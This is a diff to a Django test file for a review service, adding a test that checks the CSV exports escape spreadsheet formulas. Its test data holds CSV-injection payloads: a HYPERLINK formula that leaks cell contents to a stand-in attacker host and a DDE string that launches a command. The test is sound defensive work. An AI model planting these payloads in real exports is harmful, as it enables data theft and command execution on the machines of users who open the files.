@@ -2,11 +2,14 @@
 medium and low findings): blind votes leak no tally, queue cursors at the
 calendar's edge, report ids the API could not read back."""
 
+import csv
+import io
 import json
 from urllib.parse import quote
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 
 from reviews import services
 from reviews.models import Report
@@ -159,3 +162,27 @@ def test_a_report_with_a_lone_surrogate_is_a_422_naming_the_field(agent, change,
     assert response.status_code == 422, response.content
     assert response.json()["field"] == field and "lone surrogate" in response.json()["detail"]
     assert list(Report.objects.values_list("report_id", flat=True)) == ["r-ok"]
+
+
+# CSV injection: what the AI client writes in a report reaches the case exports as text.
+
+
+@pytest.mark.adversary
+def test_formulas_in_a_report_are_text_in_the_case_and_range_csv_exports(client, agent, operator, bob):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    report = {"id": "=1+1", "timestamp": "2026-02-01T10:00:00Z", "proposal": formula, "severity": 35,
+              "risks": ["+cmd|' /C calc'!A0"], "mitigations": ["@SUM(1+1)"], "block_execution": False}  # fmt: skip
+    response = agent.post("/api/v1/proposals", json.dumps(report), content_type="application/json")
+    case_id = response.json()["gate"]["case"]
+    services.comment_add(case_id=case_id, author=bob, text="-1 from me: =2+2")
+    client.force_login(operator)
+    today = timezone.now().date().isoformat()
+    downloads = [
+        client.get(f"/reviews/cases/{case_id}/export.csv").content.decode(),
+        client.get("/reviews/export/", {"start": today, "end": today, "format": "csv"}).content.decode(),
+    ]
+    for body in downloads:
+        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+        # The door: the attacker's text is in the download, whole; it is only made text.
+        assert "'" + formula in cells and "'-1 from me: =2+2" in cells and "'=1+1" in cells
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
